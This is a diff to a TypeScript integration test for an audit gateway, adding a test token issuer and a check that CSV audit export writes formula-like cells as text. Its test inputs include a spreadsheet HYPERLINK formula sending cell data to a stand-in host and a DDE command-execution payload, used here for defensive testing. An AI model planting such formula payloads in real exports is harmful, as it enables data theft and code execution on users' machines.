@@ -16,6 +16,7 @@ import { CHROMIUM, launchBrowser, signInWithKey } from '../support/browser.ts';
 import { runCli, writeGatewayConfig, type GatewayConfigFile } from '../support/audit-gateway.ts';
 import { getPage, postLogin, signIn } from '../support/console.ts';
 import { DEFAULT_PRINCIPALS, eventually, startTestGateway, type TestGateway, type TestPrincipal } from '../support/gateway.ts';
+import { startTestIssuer, type TestIssuer } from '../support/issuer.ts';
 import { startUpstream, type Upstream } from '../support/upstream.ts';
 
 const UPSTREAM_SECRET = 'Bearer upstream-credential-7f3a9c';
@@ -29,6 +30,7 @@ const TO = new Date(Date.now() + 2 * 86_400_000).toISOString().slice(0, 10);
 const SLOW = 60_000;
 
 let upstream: Upstream;
+let idp: TestIssuer;
 let cfg: GatewayConfigFile;
 let gw: TestGateway;
 
@@ -39,8 +41,15 @@ const pinnedKey = () => join(cfg.keyDir, 'keys', readdirSync(join(cfg.keyDir, 'k
 
 beforeAll(async () => {
   upstream = await startUpstream((call) => ({ status: 200, body: { echo: call.url } }));
+  // Workload tokens name their agent by a claim the workload's own side may choose (a job, a repository name).
+  idp = await startTestIssuer('/workloads');
   cfg = await writeGatewayConfig(
-    `connections:
+    `identity:
+  issuers:
+    - issuer: ${idp.issuer}
+      audience: countersign
+      principal: { kind: agent, id: sub }
+connections:
   - name: billing-api
     kind: http
     url: ${upstream.url}/api
@@ -73,6 +82,7 @@ policy:
 afterAll(async () => {
   await gw?.stop();
   await upstream?.close();
+  await idp?.close();
   await cfg?.remove();
 });
 
@@ -348,5 +358,21 @@ policy:
     } finally {
       await small.stop();
     }
+  }, SLOW);
+});
+
+describe('audit export --format csv', () => {
+  it('a cell a spreadsheet would run as a formula (=, +, -, @, tab, CR first) is written as text', async () => {
+    const ids = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|'/C.calc'!A0", '-2+3', '@SUM(A1:A9)'];
+    for (const sub of ids) {
+      const token = await idp.sign({ aud: 'countersign', sub });
+      const res = await fetch(`${gw.url}/v1/actions`, { method: 'POST', headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' }, body: JSON.stringify({ connection: 'billing-api', input: { method: 'GET', path: '/invoices' }, reason: 'read' }) });
+      expect(res.status, `${sub} ${await res.clone().text()}`).toBe(200);
+    }
+    const r = await cli('audit', 'export', '--config', cfg.configPath, '--format', 'csv');
+    expect(r.code).toBe(0);
+    const cells = r.stdout.split('\n').flatMap((line) => line.split(','));
+    for (const sub of ids) expect(r.stdout, sub).toContain(sub.includes('"') || sub.includes(',') ? `"'${sub.replace(/"/g, '""')}"` : `'${sub}`);
+    expect(cells.filter((c) => /^"?[=+\-@\t\r]/.test(c))).toEqual([]);
   }, SLOW);
 });
